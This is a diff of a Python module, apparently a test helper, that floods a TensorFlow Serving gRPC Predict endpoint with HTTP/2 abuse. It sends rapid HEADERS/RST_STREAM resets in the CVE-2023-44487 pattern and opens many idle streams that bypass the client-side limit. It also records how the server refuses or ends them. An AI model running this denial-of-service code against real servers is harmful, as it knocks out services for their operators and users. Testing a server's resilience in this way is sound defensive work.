@@ -3,11 +3,13 @@ client library will send.
 
 - ``rapid_reset(host, port, streams)``: HEADERS for a Predict then RST_STREAM(CANCEL) at once, ``streams``
   times in a tight loop on one connection (CVE-2023-44487's pattern).
-- ``idle_streams(host, port, streams)``: opens ``streams`` Predict streams that never send a message, all at
-  once before the server's SETTINGS are read (so the client-side limit does not apply), and holds them.
+- ``idle_streams(host, port, streams, connections, hold)``: opens ``streams`` Predict streams that never send
+  a message on each of ``connections`` connections, all at once before the server's SETTINGS are read (so
+  the client-side limit does not apply), and holds them ``hold`` seconds, reading how the server ends them.
 
-Both return an ``Abuse`` report: streams sent, streams the server refused (RST_STREAM), whether it sent
-GOAWAY (and its error code), whether it closed the connection.
+They return an ``Abuse`` report: streams sent, streams the server refused (RST_STREAM), the grpc-status
+of the streams it ended with trailers, whether it sent GOAWAY (and its error code), whether it closed the
+connection.
 """
 
 from __future__ import annotations
@@ -15,6 +17,7 @@ from __future__ import annotations
 import contextlib
 import socket
 import time
+from collections import Counter
 from dataclasses import dataclass, field
 
 import h2.config
@@ -32,6 +35,8 @@ PREDICT_PATH = "/tensorflow.serving.PredictionService/Predict"
 class Abuse:
     sent: int = 0
     refused: int = 0
+    statuses: Counter[str] = field(default_factory=Counter)  # grpc-status of streams ended with trailers
+    ended: set[tuple[int, int]] = field(default_factory=set)  # (connection, stream) refused or ended
     goaway: str = ""  # the GOAWAY's error code name, "" when none came
     closed: bool = False
     held: list[socket.socket] = field(default_factory=list)  # open connections the caller must close
@@ -79,6 +84,12 @@ def _read(sock: socket.socket, conn: h2.connection.H2Connection, report: Abuse, 
             for event in events:
                 if isinstance(event, h2.events.StreamReset) and event.remote_reset:
                     report.refused += 1
+                    report.ended.add((id(conn), event.stream_id))
+                elif isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
+                    status = dict(event.headers).get("grpc-status")
+                    if status is not None:
+                        report.statuses[status] += 1
+                        report.ended.add((id(conn), event.stream_id))
                 elif isinstance(event, h2.events.ConnectionTerminated):
                     code = event.error_code
                     report.goaway = code.name if isinstance(code, h2.errors.ErrorCodes) else str(code)
@@ -119,13 +130,22 @@ def rapid_reset(host: str, port: int, streams: int, batch: int = 100) -> Abuse:
     return report
 
 
-def idle_streams(host: str, port: int, streams: int, connections: int = 1) -> Abuse:
-    """``streams`` message-less Predict streams on each of ``connections`` connections, held open (the
-    caller closes ``report.held``)."""
+def idle_streams(
+    host: str, port: int, streams: int, connections: int = 1, hold: float = 2.0, *, until_ended: bool = False
+) -> Abuse:
+    """``streams`` message-less Predict streams on each of ``connections`` connections, all sent first, then
+    held ``hold`` seconds while what the server sends is read (the caller closes ``report.held``). With
+    ``until_ended`` the hold stops as soon as the server has ended or refused every stream (``hold`` is then
+    a hang guard)."""
     report = Abuse()
     headers = _headers(host, port)
+    opened: list[tuple[socket.socket, h2.connection.H2Connection]] = []
     for _ in range(connections):
-        sock, conn = _connect(host, port)
+        try:
+            sock, conn = _connect(host, port)
+        except OSError:
+            report.closed = True
+            continue
         report.held.append(sock)
         for _ in range(streams):  # all before the server's SETTINGS are read: no client-side limit
             conn.send_headers(conn.get_next_available_stream_id(), headers)
@@ -135,9 +155,14 @@ def idle_streams(host: str, port: int, streams: int, connections: int = 1) -> Ab
         except OSError:
             report.closed = True
             continue
-        deadline = time.monotonic() + 2.0
-        while time.monotonic() < deadline and not report.closed:  # collect the refusals
-            _read(sock, conn, report, 0.2)
+        opened.append((sock, conn))
+    deadline = time.monotonic() + hold
+    while time.monotonic() < deadline:  # refusals and the streams the server ends
+        for sock, conn in opened:
+            _read(sock, conn, report, 0)
+        if until_ended and len(report.ended) >= report.sent:
+            break
+        time.sleep(0.05)
     return report
 
 
